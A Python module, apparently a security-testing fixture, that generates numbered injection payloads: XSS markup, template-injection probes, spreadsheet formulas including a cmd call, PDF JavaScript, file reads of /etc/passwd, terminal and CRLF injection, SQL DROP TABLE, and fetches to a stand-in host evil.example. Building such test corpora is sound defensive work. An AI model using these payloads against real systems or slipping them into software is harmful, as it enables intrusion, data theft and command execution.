"""Texts that would do something where a sink takes them for more than text; generated, each with a mark of its own."""

from collections.abc import Iterator

# What each would do, a hundredfold known: run a script, load from elsewhere, reckon, break out, or steer a terminal.
_BODIES = ("{n}", "alert({n})", "fetch('//evil.example/{n}')")
_MARKUP = (
    "<script>{b}</script>", "<img src=x onerror=\"{b}\">", "<svg onload={b}>", "<svg><script>{b}</script></svg>",
    "<iframe srcdoc='<script>{b}</script>'>", "<details open ontoggle={b}>", "<math><mi xlink:href='javascript:{b}'>",
    "<style>@import '//evil.example/{b}';</style>", "<base href='//evil.example/{b}'>", "<form action='//{b}'><button>",
    "<a href=\"javascript:{b}\">x</a>", "<meta http-equiv=refresh content='0;url=//evil.example/{b}'>",
    "</textarea><script>{b}</script>", "</title><script>{b}</script>", "--><script>{b}</script>", "]]><b>{b}</b>",
    "</option></select><img src=x onerror={b}>", "<template><script>{b}</script></template>",
)  # fmt: skip
_ATTRIBUTES = (
    "\" onmouseover=\"{b}", "' onfocus='{b}' autofocus='", "\" style=\"background:url(//evil.example/{b})",
    "x\" src=\"//evil.example/{b}", "`onclick={b}`", "\"><b>{b}</b>", "&quot; onclick=&quot;{b}", "&#34;><i>{b}</i>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7*7 }}}}{b}", "{{% for x in (1,2) %}}{b}{{% endfor %}}", "${{7*7}}{b}", "#{{7*7}}{b}", "%(name)s {b}",
    "%n{b}", "{{0.__class__}}{b}", "<%= 7*7 %>{b}", "{{{{ config }}}}{b}",
)  # fmt: skip
_FORMULAS = (
    "=cmd|' /C calc'!A{b}", "+1+{b}", "-1-{b}", "@SUM({b})", "\t=1+{b}", "\r=1+{b}", "\n=1+{b}", "\uff1d1+{b}",
    "\uff0b1+{b}", "\uff0d1-{b}", "\uff20SUM({b})", "\u2212{b}", " =1+{b}", "\u200b=1+{b}", "\ufeff=1+{b}", "\0=1+{b}",
    "=HYPERLINK(\"//evil.example/{b}\")", "=1+1\";=2+{b}", "\",\"=1+{b}\",\"", "\"\r\n\"=1+{b}\",\"x", "';=1+{b}",
)  # fmt: skip
_PAPER = (
    ") /JS (app.alert({b})) >>", "/OpenAction << /S /JavaScript /JS ({b}) >>", "endstream endobj 9 0 obj {b}",
    "#let x = read(\"/etc/passwd\") {b}", "#import \"@preview/{b}\"", "$ sum_{b} $", "\\input{{/etc/passwd}} {b}",
    "#link(\"//evil.example\")[{b}]", "%PDF-1.7 {b}", "*{b}* _x_ `y` <z> @{b}",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31m{b}\x1b[0m", "\x1b]0;{b}\x07", "\x9b2J{b}", "{b}\x08\x08", "\u202e{b}\u202c", "\u2066{b}\u2069",
    "\u200f{b}", "{b}\u2028ERROR forged", "{b}\u2029x", "{b}\x85x", "{b}\x0bx\x0cx", "{b}\r\nINFO forged\tline",
    "\r\nSet-Cookie: x={b}", "\r\nBcc: {b}@evil.example", "\r\n\r\n<b>{b}</b>", "|^~\\&{b}",
    "'; DROP TABLE draft; --{b}", "../../{b}\0.png", "{b}\ufffe", "\u0301\u0301{b}",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """No two alike: each carries its number."""
    templates = (*_MARKUP, *_ATTRIBUTES, *_TEMPLATES, *_FORMULAS, *_PAPER, *_TERMINAL)
    made = _numbered((template, body) for body in _BODIES for template in templates)
    return tuple(made)


def _numbered(pairs: Iterator[tuple[str, str]]) -> Iterator[str]:
    for number, (template, body) in enumerate(pairs, 1000):
        yield template.format(b=body.format(n=f"qz{number}"))
